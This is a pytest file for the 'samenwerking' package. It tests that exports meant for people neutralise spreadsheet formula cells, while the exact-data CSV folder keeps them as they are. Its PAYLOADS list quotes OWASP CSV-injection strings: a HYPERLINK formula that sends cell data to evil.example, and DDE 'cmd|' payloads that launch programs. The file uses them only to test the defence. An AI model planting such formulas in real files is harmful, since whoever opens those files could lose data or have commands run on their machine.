"""CSV injection: exports for people neutralise formula-like cells; the CSV folder stays exact."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import samenwerking as sw
from samenwerking.cli import main
from samenwerking.io.spreadsheet import (
    FORMULA_START,
    formula_cells,
    is_formula_like,
    neutralise,
    restore,
    spreadsheet_writer,
)

# OWASP's examples of payloads (https://owasp.org/www-community/attacks/CSV_Injection).
PAYLOADS = [
    '=HYPERLINK("http://evil.example?x="&A1, "Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@given(st.text(max_size=30))
def test_a_neutralised_cell_reads_back_as_text_with_one_quote(cell: str) -> None:
    out = io.StringIO()
    spreadsheet_writer(out).writerow([cell])
    [back] = cells_of(out.getvalue()) or [""]
    if is_formula_like(cell):
        assert back == "'" + cell
    else:
        assert back == cell
    assert not back.startswith(FORMULA_START) or not is_formula_like(back)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r1.ex "), max_size=8) | st.text(max_size=20))
def test_restore_gives_back_exactly_what_was_neutralised(cell: str) -> None:
    written = neutralise(cell)
    assert isinstance(written, str)
    assert restore(written) == cell
    assert not is_formula_like(written)


def test_a_published_table_with_formula_labels_and_marker_reads_back(tmp_path: Path) -> None:
    from samenwerking.cases.tables import PublishedTable, read_table_csv, write_table_csv
    from samenwerking.privacy import suppress

    table = suppress([[2, 9], [8, 7]], row_labels=["=A", "'=B"], column_labels=["@p", "-q"])
    path = write_table_csv(table, tmp_path / "t.csv", corner="+town", marker="-")
    assert "'=A" in path.read_text(encoding="utf-8")
    back = read_table_csv(path, marker="-")
    assert back == PublishedTable.of(table, corner="+town")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_owasp_payloads_are_neutralised(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-3", "+0.5", "-1e-3", "-.5", "12"])
def test_plain_numbers_are_left_alone(number: str) -> None:
    assert neutralise(number) == number


def region_with(text: str) -> sw.Region:
    """The example region with the first professional and organisation named ``text``."""
    region = sw.example_region()
    person = region.professionals[0].__class__
    first = region.professionals[0]
    renamed = person(first.id, text, first.role, first.organisations, first.capacity)
    org = region.organisations[0]
    town = org.__class__(org.id, text, org.sector, org.municipality)
    return region.replace(
        professionals=(renamed, *region.professionals[1:]),
        organisations=(town, *region.organisations[1:]),
    )


def test_the_csv_folder_keeps_the_cell_exact_and_check_warns(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    payload = PAYLOADS[0]
    folder = sw.save(region_with(payload), tmp_path / "r")
    assert sw.load(folder).professionals[0].name == payload  # exact, not neutralised
    assert main(["check", str(folder)]) == 0
    out, err = capsys.readouterr()
    assert out.startswith("valid:")
    warnings = [line for line in err.splitlines() if line.startswith("samenwerking: warning:")]
    assert len(warnings) == 2
    assert warnings[0].startswith(
        "samenwerking: warning: organisations.csv, row 2, field 'name', value '=HYPERLINK"
    )
    assert warnings[1].startswith("samenwerking: warning: professionals.csv, row 2, field 'name'")


def test_formula_cells_names_json_paths_without_a_locator() -> None:
    found = formula_cells(region_with("@x"))
    assert [(p.location, p.field) for p in found] == [
        ("$.organisations[0]", "name"),
        ("$.professionals[0]", "name"),
    ]
    assert formula_cells(sw.example_region()) == []


def test_case_tables_neutralise_labels() -> None:
    from samenwerking.cases.tables import table_csv_text
    from samenwerking.privacy import suppress

    table = suppress([[12, 30]], row_labels=["=cmd()"], column_labels=["@a", "b"])
    text = table_csv_text(table, corner="+corner")
    cells = cells_of(text)
    assert "'=cmd()" in cells and "'@a" in cells and "'+corner" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)


def test_the_seating_plan_and_introductions_neutralise_ids(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = sw.save(sw.example_region(), tmp_path / "r")
    for path in folder.glob("*.csv"):  # every professional id starts with '@'
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace(",p-", ",@p-").replace("\np-", "\n@p-").replace(";p-", ";@p-"))
    region = sw.load(folder)
    assert all(str(p.id).startswith("@") for p in region.professionals)
    meeting = next(m for m in region.meetings if len(m.participants) >= 12)
    plan, intro = tmp_path / "plan.csv", tmp_path / "intro.csv"
    argv = ["plan-tables", str(folder), "--meeting", str(meeting.id), "--tables", "6"]
    assert main([*argv, "--rounds", "2", "--trim", "--csv", str(plan)]) == 0
    assert main(["introduce", str(folder), "--csv", str(intro)]) == 0
    capsys.readouterr()
    for path in (plan, intro):
        cells = cells_of(path.read_text(encoding="utf-8"))
        assert any(cell.startswith("'@p-") for cell in cells), path
        assert not any(cell.startswith("@") for cell in cells), path


# The modules that write a data format (kept exact) rather than a file for people.
DATA_FORMATS = {"csvfolder.py", "csv_ties.py", "excel.py", "frames.py", "spreadsheet.py"}


def test_every_csv_writer_outside_the_data_formats_neutralises() -> None:
    """A new export that uses csv.writer directly (and so could carry a formula) fails here."""
    root = Path(sw.__file__).parent
    direct = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "csv.writer(" in path.read_text(encoding="utf-8")
        and not (path.parent.name == "io" and (path.name in DATA_FORMATS or "parquet" in path.name))
    ]
    assert direct == []
    users = [
        p for p in root.rglob("*.py") if "spreadsheet_writer(" in p.read_text(encoding="utf-8")
    ]
    assert {p.name for p in users} >= {
        "aggregates.py",
        "tables.py",
        "results.py",
        "_action_commands.py",
    }


def test_excel_export_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    import openpyxl

    book = sw.save(region_with("=1+1"), tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(book)["professionals"]
    cell = sheet.cell(2, 2)
    assert (cell.value, cell.data_type) == ("=1+1", "s")
    assert sw.load(book).professionals[0].name == "=1+1"
